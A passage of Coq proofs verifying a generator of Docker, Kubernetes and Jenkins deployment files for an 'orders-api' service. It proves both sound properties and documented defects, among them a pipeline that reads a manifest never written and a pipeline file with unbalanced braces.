  ∧ writable old_state (jenkinsfile_path "generated/orders-api")
  ∧ ∃ pipeline,
      pipeline_of
        (write_secret_yaml
           (bound_globals "generated/orders-api" (JInt 8080) (JInt 30080) orders_envs)
           "orders-api" ["DB_URL"; "API_KEY"]
           "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
        "generated/orders-api" = Some pipeline
      ∧ Pipeline.build_args pipeline = ["DB_URL"; "API_KEY"; "PORT"].
Proof.
  assert (Text.single_line "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 30080)) = true) as H2
    by (vm_compute; reflexivity).
  assert (forallb binding_ok orders_envs = true) as Hb by (vm_compute; reflexivity).
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state (jenkinsfile_path "generated/orders-api")) as Hj
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hl|]. split; [exact H1|]. split; [exact H2|]. split; [exact Hb|].
  split; [exact Hc|]. split; [exact Hj|].
  destruct (bound_pipeline_agrees_with_the_build_file "orders-api" (JInt 8080)
              (JInt 30080) orders_envs ["DB_URL"; "API_KEY"] _ _ old_state
              Hl H1 H2 Hb Hc Hj) as (pipeline & _ & Hread & _ & Hargs & _).
  exists pipeline. split; [exact Hread|exact Hargs].
Defined.

(** X17. For every name that is a safe identifier, ports that
    Python prints on one line and entries of [envs] that have an
    identifier as name and a one-line secret id without a comma: after a
    successful request, a call of [write_secret_yaml] with the four names
    bound as the request had them writes a pipeline whose deploy stage
    reads [k8s/<name>-deployment.yaml], [k8s/<name>-service.yaml] and
    [k8s/<name>-hpa.yaml].  The second and the third are the service and
    the autoscaler manifest; no file exists under the first name, the
    workload manifest being [k8s/<name>.yaml]. *)
Theorem bound_pipeline_reads_a_manifest_never_written (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (st : state) :
  safe_identifier app_name = true →
  Text.single_line (py_str port) = true →
  Text.single_line (py_str node_port) = true →
  forallb binding_ok envs = true →
  destination_free st app_name →
  let dest := destination app_name in
  let st1 := (generate (request app_name port node_port envs) st).2 in
  let st2 := (write_secret_yaml (bound_globals dest port node_port envs) app_name
                var_names (k8s_path dest (app_name +:+ "-secret.yaml")) st1).2 in
  ∃ pipeline,
    pipeline_of st2 dest = Some pipeline
    ∧ Pipeline.manifest_reads pipeline
      = ["k8s/" +:+ app_name +:+ "-deployment.yaml";
         "k8s/" +:+ app_name +:+ "-service.yaml";
         "k8s/" +:+ app_name +:+ "-hpa.yaml"]
    ∧ Os.read_file st2 (Os.path_join dest ("k8s/" +:+ app_name +:+ "-deployment.yaml"))
      = None
    ∧ Os.read_file st2 (deployment_path dest app_name)
      = Some (Template.deployment app_name port)
    ∧ Os.read_file st2 (Os.path_join dest ("k8s/" +:+ app_name +:+ "-service.yaml"))
      = Some (Template.service app_name port node_port)
    ∧ Os.read_file st2 (Os.path_join dest ("k8s/" +:+ app_name +:+ "-hpa.yaml"))
      = Some (Template.hpa app_name).
Proof.
  intros Hsafe Hport Hnode Hall Hfree dest st1 st2.
  pose proof (safe_identifier_component _ Hsafe) as Hname.
  pose proof (safe_identifier_single_line _ Hsafe) as Hline.
  pose proof (bindings_complete envs Hall) as Hcomplete.
  set (P := cwd st ++ ["generated"; app_name]).
  set (K := P ++ ["k8s"]).
  assert (∀ suffix, Text.free_of Text.slash suffix = true → 3 ≤ String.length suffix →
            path_component (app_name +:+ suffix) = true) as Hfile
    by (intros suffix; by apply path_component_app).
  assert (cwd st1 = cwd st) as Hcwd
    by (unfold st1; by rewrite (generated_state _ port node_port _ _ Hname Hcomplete Hfree)).
  assert (∀ file, path_component file = true →
            Os.resolve (cwd st1) (k8s_path dest file) = K ++ [file]) as Hres.
  { intros file Hf. rewrite Hcwd. by apply resolve_manifest_path. }
  assert (Os.resolve (cwd st1) (jenkinsfile_path dest) = P ++ ["Jenkinsfile"]) as HJ.
  { rewrite Hcwd. unfold jenkinsfile_path, dest.
    by rewrite resolve_join, resolve_destination. }
  assert (creatable st1 (k8s_path dest (app_name +:+ "-secret.yaml"))) as Hc.
  { unfold creatable. cbv zeta. rewrite Hres by (apply Hfile; [done|simpl; lia]).
    split; [apply snoc_stored|]. split.
    - unfold Os.parent. rewrite removelast_last, fs_get_stored by apply snoc_stored.
      by apply generated_k8s_dir.
    - unfold st1. rewrite (generated_lookup_k8s _ port node_port _ _ Hname Hcomplete Hfree);
        [done|apply Hfile; [done|simpl; lia]|].
      rewrite !elem_of_cons, elem_of_nil.
      intros [E|[E|[E|[]]]]; by apply sapp_inv_l in E. }
  assert (creatable st1 (jenkinsfile_path dest)) as Hj.
  { unfold creatable. cbv zeta. rewrite HJ.
    split; [apply snoc_stored|]. split.
    - unfold Os.parent. rewrite removelast_last.
      rewrite fs_get_stored by (unfold P; by destruct (cwd st)).
      by apply generated_destination_dir.
    - unfold st1, P.
      by rewrite (generated_no_jenkinsfile _ port node_port _ _ Hname Hcomplete Hfree). }
  exists (pipeline_text app_name port node_port envs).
  unfold st2. rewrite write_secret_yaml_bound by done. cbn [snd].
  rewrite HJ, Hres by (apply Hfile; [done|simpl; lia]).
  set (secret := File (secret_text app_name var_names)).
  set (pipeline := File (pipeline_text app_name port node_port envs)).
  assert (∀ p file, path_component file = true →
            file ≠ app_name +:+ "-secret.yaml" →
            Os.resolve (cwd st1) p = K ++ [file] →
            Os.read_file
              {| cwd := cwd st1;
                 fs := <[P ++ ["Jenkinsfile"] := pipeline]>
                         (<[K ++ [app_name +:+ "-secret.yaml"] := secret]> (fs st1));
                 calls := "write_secret_yaml" :: calls st1 |} p
            = match fs st1 !! (K ++ [file]) with
              | Some (File c) => Some c
              | _ => None
              end) as Hread.
  { intros p file Hf Hne Hp. unfold Os.read_file. cbn [cwd fs]. rewrite Hp.
    rewrite fs_get_stored by apply snoc_stored.
    rewrite !lookup_insert_ne; [done|..].
    - intros E. apply app_inv_head in E. congruence.
    - unfold K. rewrite <- app_assoc. intros E. symmetry in E.
      by apply snoc2_ne_snoc in E. }
  split.
  { unfold pipeline_of, Os.read_file. cbn [cwd fs]. rewrite HJ.
    by rewrite fs_get_stored, lookup_insert_eq by apply snoc_stored. }
  split.
  { apply pipeline_manifest_reads; try done.
    all: by apply (safe_identifier_free _ app_name). }
  destruct (generate_reads _ port node_port _ _ _ Hname
              (env_names_names envs Hcomplete) Hfree) as (_ & _ & Hdep & Hsvc & Hhpa).
  fold dest st1 in Hdep, Hsvc, Hhpa.
  assert (∀ file c, path_component file = true →
            Os.read_file st1 (k8s_path dest file) = Some c →
            fs st1 !! (K ++ [file]) = Some (File c)) as Hback.
  { intros file c Hf. unfold Os.read_file. rewrite Hres by done.
    rewrite fs_get_stored by apply snoc_stored.
    destruct (fs st1 !! _) as [[|c']|]; congruence. }
  split.
  { rewrite (Hread _ (app_name +:+ "-deployment.yaml")).
    - unfold st1.
      rewrite (generated_lookup_k8s _ port node_port _ _ Hname Hcomplete Hfree);
        [done|apply Hfile; [done|simpl; lia]|].
      rewrite !elem_of_cons, elem_of_nil.
      intros [E|[E|[E|[]]]]; by apply sapp_inv_l in E.
    - apply Hfile; [done|simpl; lia].
    - intros E. by apply sapp_inv_l in E.
    - rewrite resolve_relative_manifest by (apply Hfile; [done|simpl; lia]).
      apply Hres, Hfile; [done|simpl; lia]. }
  split.
  { rewrite (Hread _ (app_name +:+ ".yaml")).
    - by rewrite (Hback _ _ (Hfile ".yaml" eq_refl ltac:(simpl; lia)) Hdep).
    - apply Hfile; [done|simpl; lia].
    - intros E. by apply sapp_inv_l in E.
    - apply Hres, Hfile; [done|simpl; lia]. }
  split.
  { rewrite (Hread _ (app_name +:+ "-service.yaml")).
    - by rewrite (Hback _ _ (Hfile "-service.yaml" eq_refl ltac:(simpl; lia)) Hsvc).
    - apply Hfile; [done|simpl; lia].
    - intros E. by apply sapp_inv_l in E.
    - rewrite resolve_relative_manifest by (apply Hfile; [done|simpl; lia]).
      apply Hres, Hfile; [done|simpl; lia]. }
  rewrite (Hread _ (app_name +:+ "-hpa.yaml")).
  - by rewrite (Hback _ _ (Hfile "-hpa.yaml" eq_refl ltac:(simpl; lia)) Hhpa).
  - apply Hfile; [done|simpl; lia].
  - intros E. by apply sapp_inv_l in E.
  - rewrite resolve_relative_manifest by (apply Hfile; [done|simpl; lia]).
    apply Hres, Hfile; [done|simpl; lia].
Qed.

Lemma bound_pipeline_reads_a_manifest_never_written_witness :
  safe_identifier "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Text.single_line (py_str (JInt 30080)) = true
  ∧ forallb binding_ok orders_envs = true
  ∧ destination_free empty_state "orders-api"
  ∧ ∃ pipeline,
      pipeline_of
        (write_secret_yaml
           (bound_globals (destination "orders-api") (JInt 8080) (JInt 30080)
              orders_envs)
           "orders-api" ["DB_URL"; "API_KEY"]
           (k8s_path (destination "orders-api") "orders-api-secret.yaml")
           (generate orders_request empty_state).2).2
        (destination "orders-api") = Some pipeline
      ∧ Pipeline.manifest_reads pipeline
        = ["k8s/orders-api-deployment.yaml"; "k8s/orders-api-service.yaml";
           "k8s/orders-api-hpa.yaml"].
Proof.
  assert (safe_identifier "orders-api" = true) as Hs by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 30080)) = true) as H2
    by (vm_compute; reflexivity).
  assert (forallb binding_ok orders_envs = true) as Hb by (vm_compute; reflexivity).
  assert (destination_free empty_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hs|]. split; [exact H1|]. split; [exact H2|]. split; [exact Hb|].
  split; [exact Hf|].
  destruct (bound_pipeline_reads_a_manifest_never_written "orders-api" (JInt 8080)
              (JInt 30080) orders_envs ["DB_URL"; "API_KEY"] empty_state
              Hs H1 H2 Hb Hf) as (pipeline & Hread & Hreads & _).
  exists pipeline. split; [exact Hread|exact Hreads].
Defined.

(** X18. For every request with a one-component name and named
    variables on a free destination, when the names fit on a line: the
    instructions of the build file around the variables are the same for
    all requests.  There is one base image, [node:20-slim]; one working
    directory, [/app]; the two COPY and the one RUN instruction; the
    exposed port is the build argument [${PORT}], not a number; the one
    USER instruction is [node]; and the command passes [--port ${PORT}]
    to the process. *)
Theorem build_file_keeps_its_fixed_instructions (app_name : string)
    (port node_port : jsval) (envs : list env) (names : list string)
    (st : state) :
  path_component app_name = true →
  Template.env_names envs = Ok names →
  Forall (λ n, Text.single_line n = true) names →
  destination_free st app_name →
  let run := generate (request app_name port node_port envs) st in
  ∃ text,
    Os.read_file run.2 (dockerfile_path (destination app_name)) = Some text
    ∧ operands "FROM " text = ["node:20-slim"]
    ∧ operands "WORKDIR " text = ["/app"]
    ∧ operands "COPY " text = ["package*.json ./"; ". ."]
    ∧ operands "RUN " text = ["npm ci --ignore-scripts && npm cache clean --force"]
    ∧ operands "EXPOSE " text = ["${PORT}"]
    ∧ operands "USER " text = ["node"]
    ∧ operands "CMD " text
      = ["[" +:+ Text.q "node" +:+ ", " +:+ Text.q "dist/main" +:+ ", "
         +:+ Text.q "--port" +:+ ", " +:+ Text.q "${PORT}" +:+ "]"].
Proof.
  intros Hname Hnames Hlines Hfree run.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & Hdf & _).
  exists (Template.dockerfile names). split; [exact Hdf|].
  exact (dockerfile_fixed names Hlines).
Qed.

Lemma build_file_keeps_its_fixed_instructions_witness :
  path_component "orders-api" = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ Forall (λ n, Text.single_line n = true) ["DB_URL"; "API_KEY"]
  ∧ destination_free old_state "orders-api"
  ∧ ∃ text,
      Os.read_file (generate orders_request old_state).2
        (dockerfile_path (destination "orders-api")) = Some text
      ∧ operands "USER " text = ["node"].
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (Forall (λ n, Text.single_line n = true) ["DB_URL"; "API_KEY"]) as Hl
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (destination_free old_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hn|]. split; [exact Hl|]. split; [exact Hf|].
  destruct (build_file_keeps_its_fixed_instructions "orders-api" (JInt 8080)
              (JInt 30080) orders_envs _ old_state Hp Hn Hl Hf)
    as (text & Hread & _ & _ & _ & _ & _ & Huser & _).
  exists text. split; [exact Hread|exact Huser].
Defined.

(** X19. The workload of every successful request with a
    one-line name and a port that Python prints on one line runs
    restricted: its container must not run as root and runs as user 1000,
    may not escalate privileges, and has a read-only root file system; the
    image is always pulled, with the pull secret
    [harbor-registry-secret]. *)
Theorem workload_runs_restricted (app_name : string) (port node_port : jsval)
    (envs : list env) (names : list string) (st : state) :
  path_component app_name = true →
  Text.single_line app_name = true →
  Text.single_line (py_str port) = true →
  Template.env_names envs = Ok names →
  destination_free st app_name →
  let dest := destination app_name in
  let run := generate (request app_name port node_port envs) st in
  let container := ["spec"; "template"; "spec"; "containers"] in
  ∃ dep,
    Os.read_file run.2 (deployment_path dest app_name) = Some dep
    ∧ Yaml.get (container ++ ["securityContext"; "runAsNonRoot"]) dep = Some "true"
    ∧ Yaml.get (container ++ ["securityContext"; "runAsUser"]) dep = Some "1000"
    ∧ Yaml.get (container ++ ["securityContext"; "allowPrivilegeEscalation"]) dep
      = Some "false"
    ∧ Yaml.get (container ++ ["securityContext"; "readOnlyRootFilesystem"]) dep
      = Some "true"
    ∧ Yaml.get (container ++ ["imagePullPolicy"]) dep = Some "Always"
    ∧ Yaml.get ["spec"; "template"; "spec"; "imagePullSecrets"; "name"] dep
      = Some "harbor-registry-secret".
Proof.
  intros Hname Hline Hport Hnames Hfree dest run container.
  destruct (generate_reads _ port node_port _ _ _ Hname Hnames Hfree)
    as (_ & _ & Hdep & _).
  exists (Template.deployment app_name port). split; [exact Hdep|].
  exact (workload_restrictions app_name port Hline Hport).
Qed.

Lemma workload_runs_restricted_witness :
  path_component "orders-api" = true
  ∧ Text.single_line "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]
  ∧ destination_free empty_state "orders-api"
  ∧ ∃ dep,
      Os.read_file (generate orders_request empty_state).2
        (deployment_path (destination "orders-api") "orders-api") = Some dep
      ∧ Yaml.get ["spec"; "template"; "spec"; "containers"; "securityContext";
                  "runAsNonRoot"] dep = Some "true".
Proof.
  assert (path_component "orders-api" = true) as Hp by (vm_compute; reflexivity).
  assert (Text.single_line "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Template.env_names orders_envs = Ok ["DB_URL"; "API_KEY"]) as Hn
    by (vm_compute; reflexivity).
  assert (destination_free empty_state "orders-api") as Hf
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hl|]. split; [exact H1|]. split; [exact Hn|].
  split; [exact Hf|].
  destruct (workload_runs_restricted "orders-api" (JInt 8080) (JInt 30080)
              orders_envs _ empty_state Hp Hl H1 Hn Hf) as (dep & Hread & Hroot & _).
  exists dep. split; [exact Hread|exact Hroot].
Defined.

(** X20. A request reads nothing of [envs] but the names: two
    requests whose entries carry the same names, entry by entry (present
    or absent), get the same answer and leave the same file system.  The
    secret ids, and any other field of an entry, are never read, so an
    entry without a secret id is accepted. *)
Theorem request_reads_only_the_names (app_name : string) (port node_port : jsval)
    (envs envs' : list env) (st : state) :
  map (λ e : env, e !! "name") envs = map (λ e : env, e !! "name") envs' →
  generate (request app_name port node_port envs) st
  = generate (request app_name port node_port envs') st.
Proof.
  intros H. apply env_names_ext in H.
  unfold generate, request. cbn [rq_app_name rq_port rq_node_port rq_envs].
  cbn [from_option id]. unfold generate_files. by rewrite H.
Qed.

Lemma request_reads_only_the_names_witness :
  map (λ e : env, e !! "name") orders_envs
  = map (λ e : env, e !! "name") orders_names_only
  ∧ generate orders_request old_state
    = generate (request "orders-api" (JInt 8080) (JInt 30080) orders_names_only)
        old_state.
Proof.
  assert (map (λ e : env, e !! "name") orders_envs
          = map (λ e : env, e !! "name") orders_names_only) as H
    by (vm_compute; reflexivity).
  split; [exact H|].
  exact (request_reads_only_the_names "orders-api" (JInt 8080) (JInt 30080) _ _
           old_state H).
Defined.

(** X21. With the four names bound, the [environment] block of the
    pipeline that [write_secret_yaml] writes carries the names of the
    manifests: IMAGE_NAME and DEPLOYMENT_NAME are the application name,
    SERVICE_NAME, HPA_NAME and SECRET_NAME the derived names, NAMESPACE is
    [pnud-agvm], PORT and NODE_PORT are the ports as Python prints them.
    They agree with the name of the workload, of the service, of the
    autoscaler and of the secret template, with the secret that the
    workload loads, with the namespace, the container port and the node
    port of the manifests for the same descriptor.  (For names and ports
    that fit between single quotes on a line.) *)
Theorem bound_pipeline_names_what_the_manifests_name (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (output_path output_dir : string) (st : state) :
  quotable app_name = true →
  quotable (py_str port) = true →
  quotable (py_str node_port) = true →
  forallb binding_ok envs = true →
  writable st output_path →
  writable st (jenkinsfile_path output_dir) →
  let run := write_secret_yaml (bound_globals output_dir port node_port envs)
               app_name var_names output_path st in
  let dep := Template.deployment app_name port in
  let svc := Template.service app_name port node_port in
  let hpa := Template.hpa app_name in
  let secret := secret_text app_name var_names in
  ∃ pipeline,
    run.1 = Ok tt
    ∧ pipeline_of run.2 output_dir = Some pipeline
    ∧ map (λ var, Pipeline.environment_value var pipeline)
        ["IMAGE_NAME"; "DEPLOYMENT_NAME"; "SERVICE_NAME"; "HPA_NAME"; "SECRET_NAME";
         "NAMESPACE"; "PORT"; "NODE_PORT"]
      = [Some app_name; Some app_name; Some (app_name +:+ "-service");
         Some (app_name +:+ "-hpa"); Some (app_name +:+ "-secret");
         Some "pnud-agvm"; Some (py_str port); Some (py_str node_port)]
    ∧ Pipeline.environment_value "DEPLOYMENT_NAME" pipeline
      = Yaml.get ["metadata"; "name"] dep
    ∧ Pipeline.environment_value "SERVICE_NAME" pipeline
      = Yaml.get ["metadata"; "name"] svc
    ∧ Pipeline.environment_value "HPA_NAME" pipeline
      = Yaml.get ["metadata"; "name"] hpa
    ∧ Pipeline.environment_value "SECRET_NAME" pipeline
      = Yaml.get ["metadata"; "name"] secret
    ∧ Pipeline.environment_value "SECRET_NAME" pipeline
      = Yaml.get ["spec"; "template"; "spec"; "containers"; "envFrom"; "secretRef"; "name"]
          dep
    ∧ Pipeline.environment_value "NAMESPACE" pipeline
      = Yaml.get ["metadata"; "namespace"] dep
    ∧ Pipeline.environment_value "PORT" pipeline
      = Yaml.get ["spec"; "template"; "spec"; "containers"; "ports"; "containerPort"] dep
    ∧ Pipeline.environment_value "NODE_PORT" pipeline
      = Yaml.get ["spec"; "ports"; "nodePort"] svc.
Proof.
  intros [Hname Qname]%andb_true_iff [Hport Qport]%andb_true_iff
    [Hnode Qnode]%andb_true_iff Hall [_ Hc] [_ Hj] run dep svc hpa secret.
  pose proof (bindings_complete envs Hall) as Hcomplete.
  exists (pipeline_text app_name port node_port envs).
  unfold run. rewrite write_secret_yaml_bound by done. cbn [fst snd].
  split; [done|]. split.
  { unfold pipeline_of, Os.read_file. cbn [cwd fs].
    destruct Hj as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  destruct (pipeline_environment app_name port node_port Hname Hport Hnode
              Qname Qport Qnode envs Hall)
    as (E1 & E2 & E3 & E4 & E5 & E6 & E7 & E8).
  destruct (deployment_names app_name port Hname Hport) as (D1 & _ & _ & _ & _ & D6).
  destruct (service_names app_name port node_port Hname Hport Hnode) as [S1 _].
  destruct (hpa_names app_name Hname) as (A1 & _).
  destruct (manifest_policy app_name port node_port Hname Hport Hnode) as (N1 & _).
  destruct (manifest_ports app_name port node_port Hname Hport Hnode)
    as (P1 & _ & _ & _ & _ & P6).
  pose proof (secret_name app_name Hname var_names) as T1.
  cbn [map]. rewrite E1, E2, E3, E4, E5, E6, E7, E8.
  unfold dep, svc, hpa, secret. rewrite D1, D6, S1, A1, N1, P1, P6, T1.
  repeat split.
Qed.

Lemma bound_pipeline_names_what_the_manifests_name_witness :
  quotable "orders-api" = true
  ∧ quotable (py_str (JInt 8080)) = true
  ∧ quotable (py_str (JInt 30080)) = true
  ∧ forallb binding_ok orders_envs = true
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ writable old_state (jenkinsfile_path "generated/orders-api")
  ∧ ∃ pipeline,
      pipeline_of
        (write_secret_yaml
           (bound_globals "generated/orders-api" (JInt 8080) (JInt 30080) orders_envs)
           "orders-api" ["DB_URL"; "API_KEY"]
           "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
        "generated/orders-api" = Some pipeline
      ∧ Pipeline.environment_value "SERVICE_NAME" pipeline
        = Yaml.get ["metadata"; "name"]
            (Template.service "orders-api" (JInt 8080) (JInt 30080)).
Proof.
  assert (quotable "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (quotable (py_str (JInt 8080)) = true) as H1 by (vm_compute; reflexivity).
  assert (quotable (py_str (JInt 30080)) = true) as H2 by (vm_compute; reflexivity).
  assert (forallb binding_ok orders_envs = true) as Hb by (vm_compute; reflexivity).
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state (jenkinsfile_path "generated/orders-api")) as Hj
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hl|]. split; [exact H1|]. split; [exact H2|]. split; [exact Hb|].
  split; [exact Hc|]. split; [exact Hj|].
  destruct (bound_pipeline_names_what_the_manifests_name "orders-api" (JInt 8080)
              (JInt 30080) orders_envs ["DB_URL"; "API_KEY"] _ _ old_state
              Hl H1 H2 Hb Hc Hj) as (pipeline & _ & Hread & _ & _ & Hsvc & _).
  exists pipeline. split; [exact Hread|exact Hsvc].
Defined.

(** X22. With the four names bound, for a name that is a safe
    identifier, ports that Python prints on one line, entries of [envs]
    that have an identifier as name and a one-line secret id without a
    comma, and a call whose two files can be opened: the deploy stage of
    the pipeline binds one credential for each variable, in the order of [envs], as the
    build stage does, and creates the secret from one literal for each
    variable, the key [NAME] with the value of the variable [NAME]: the
    keys of the secret template for the same variables.  It creates the
    image-pull secret that the workload names, waits for the rollout of
    the workload under the application name and lists the pods by the
    label that the workload gives them. *)
Theorem deploy_stage_uses_the_variables_of_the_build (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (output_path output_dir : string) (st : state) :
  safe_identifier app_name = true →
  Text.single_line (py_str port) = true →
  Text.single_line (py_str node_port) = true →
  forallb binding_ok envs = true →
  writable st output_path →
  writable st (jenkinsfile_path output_dir) →
  let run := write_secret_yaml (bound_globals output_dir port node_port envs)
               app_name var_names output_path st in
  let dep := Template.deployment app_name port in
  ∃ pipeline,
    run.1 = Ok tt
    ∧ pipeline_of run.2 output_dir = Some pipeline
    ∧ DeployStage.credentials pipeline = declared_names envs
    ∧ DeployStage.credentials pipeline = Pipeline.credential_vars pipeline
    ∧ DeployStage.secret_literals pipeline
      = map (λ n, (n, n)) (declared_names envs)
    ∧ Yaml.keys_at ["stringData"] (secret_text app_name (declared_names envs))
      = Some (map fst (DeployStage.secret_literals pipeline))
    ∧ DeployStage.registry_secret pipeline = Some "harbor-registry-secret"
    ∧ DeployStage.registry_secret pipeline
      = Yaml.get ["spec"; "template"; "spec"; "imagePullSecrets"; "name"] dep
    ∧ DeployStage.rollout_target pipeline = Some app_name
    ∧ DeployStage.rollout_target pipeline = Yaml.get ["metadata"; "name"] dep
    ∧ DeployStage.pod_label pipeline = Some app_name
    ∧ DeployStage.pod_label pipeline
      = Yaml.get ["spec"; "template"; "metadata"; "labels"; "app"] dep.
Proof.
  intros Hsafe Hport Hnode Hall [_ Hc] [_ Hj] run dep.
  pose proof (safe_identifier_single_line _ Hsafe) as Hname.
  assert (Text.free_of " " app_name = true) as Hblank
    by (by apply safe_identifier_free).
  pose proof (bindings_complete envs Hall) as Hcomplete.
  exists (pipeline_text app_name port node_port envs).
  unfold run. rewrite write_secret_yaml_bound by done. cbn [fst snd].
  split; [done|]. split.
  { unfold pipeline_of, Os.read_file. cbn [cwd fs].
    destruct Hj as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  assert (Forall (λ n, identifier n = true) (map name_of envs)) as Hids.
  { apply Forall_forall. intros n (e & -> & He)%list_elem_of_fmap.
    rewrite forallb_forall in Hall.
    by apply list_elem_of_In, Hall, binding_ok_inv in He as (_ & Hid & _). }
  rewrite declared_names_names by done.
  rewrite (pipeline_deploy_credentials app_name port node_port Hname Hport Hnode _ Hall).
  rewrite pipeline_credential_vars by done.
  rewrite (pipeline_secret_literals app_name port node_port Hname Hport Hnode _ Hall).
  rewrite (pipeline_registry_secret app_name port node_port Hname Hport Hnode _ Hall).
  rewrite (pipeline_rollout_target app_name port node_port Hname Hport Hnode _ Hall Hblank).
  rewrite (pipeline_pod_label app_name port node_port Hname Hport Hnode _ Hall).
  destruct (secret_entries app_name (map name_of envs) Hname Hids) as [Hkeys _].
  destruct (deployment_names app_name port Hname Hport) as (D1 & _ & _ & D4 & _).
  destruct (workload_restrictions app_name port Hname Hport) as (_ & _ & _ & _ & _ & W).
  unfold dep. rewrite Hkeys, D1, D4, W, !map_map. cbn [fst].
  repeat split.
Qed.

Lemma deploy_stage_uses_the_variables_of_the_build_witness :
  safe_identifier "orders-api" = true
  ∧ Text.single_line (py_str (JInt 8080)) = true
  ∧ Text.single_line (py_str (JInt 30080)) = true
  ∧ forallb binding_ok orders_envs = true
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ writable old_state (jenkinsfile_path "generated/orders-api")
  ∧ ∃ pipeline,
      pipeline_of
        (write_secret_yaml
           (bound_globals "generated/orders-api" (JInt 8080) (JInt 30080) orders_envs)
           "orders-api" ["DB_URL"; "API_KEY"]
           "generated/orders-api/k8s/orders-api-secret.yaml" old_state).2
        "generated/orders-api" = Some pipeline
      ∧ DeployStage.secret_literals pipeline
        = [("DB_URL", "DB_URL"); ("API_KEY", "API_KEY")].
Proof.
  assert (safe_identifier "orders-api" = true) as Hl by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 8080)) = true) as H1
    by (vm_compute; reflexivity).
  assert (Text.single_line (py_str (JInt 30080)) = true) as H2
    by (vm_compute; reflexivity).
  assert (forallb binding_ok orders_envs = true) as Hb by (vm_compute; reflexivity).
  assert (writable old_state "generated/orders-api/k8s/orders-api-secret.yaml") as Hc
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  assert (writable old_state (jenkinsfile_path "generated/orders-api")) as Hj
    by (apply (bool_decide_unpack _); vm_compute; reflexivity).
  split; [exact Hl|]. split; [exact H1|]. split; [exact H2|]. split; [exact Hb|].
  split; [exact Hc|]. split; [exact Hj|].
  destruct (deploy_stage_uses_the_variables_of_the_build "orders-api" (JInt 8080)
              (JInt 30080) orders_envs ["DB_URL"; "API_KEY"] _ _ old_state
              Hl H1 H2 Hb Hc Hj) as (pipeline & _ & Hread & _ & _ & Hlit & _).
  exists pipeline. split; [exact Hread|exact Hlit].
Defined.

(** X23. The pipeline definition that [write_secret_yaml] writes
    closes more blocks than it opens.  Its last text is written as a plain
    string, not as a format string, so the doubled braces of its last
    lines stay doubled: that text alone has ten closing braces more than
    opening ones, and the whole file five, when the name, the ports and
    the entries of [envs] carry no braces of their own. *)
Theorem pipeline_closes_more_blocks_than_it_opens (app_name : string)
    (port node_port : jsval) (envs : list env) (var_names : list string)
    (output_path output_dir : string) (st : state) :
  brace_free app_name = true →
  brace_free (py_str port) = true →
  brace_free (py_str node_port) = true →
  forallb plain_binding envs = true →
  writable st output_path →
  writable st (jenkinsfile_path output_dir) →
  let run := write_secret_yaml (bound_globals output_dir port node_port envs)
               app_name var_names output_path st in
  ∃ pipeline,
    run.1 = Ok tt
    ∧ pipeline_of run.2 output_dir = Some pipeline
    ∧ brace_balance pipeline = (-5)%Z
    ∧ brace_balance (Template.jenkins_deploy_close app_name) = (-10)%Z.
Proof.
  intros Hname Hport Hnode Hall [_ Hc] [_ Hj] run.
  assert (forallb env_complete envs = true) as Hcomplete.
  { apply forallb_forall. intros e He. rewrite forallb_forall in Hall.
    apply Hall in He. unfold plain_binding in He.
    by apply andb_prop in He as [[? _]%andb_prop _]. }
  exists (pipeline_text app_name port node_port envs).
  unfold run. rewrite write_secret_yaml_bound by done. cbn [fst snd].
  split; [done|]. split.
  { unfold pipeline_of, Os.read_file. cbn [cwd fs].
    destruct Hj as (Hne & _). rewrite fs_get_stored by done.
    by rewrite lookup_insert_eq. }
  split; [by apply pipeline_text_balance|].
  unfold Template.jenkins_deploy_close. rewrite !brace_balance_app.
  rewrite (brace_free_balance app_name Hname). vm_compute. reflexivity.
Qed.

Lemma pipeline_closes_more_blocks_than_it_opens_witness :
  brace_free "orders-api" = true
  ∧ brace_free (py_str (JInt 8080)) = true
  ∧ brace_free (py_str (JInt 30080)) = true
  ∧ forallb plain_binding orders_envs = true
  ∧ writable old_state "generated/orders-api/k8s/orders-api-secret.yaml"
  ∧ writable old_state (jenkinsfile_path "generated/orders-api")
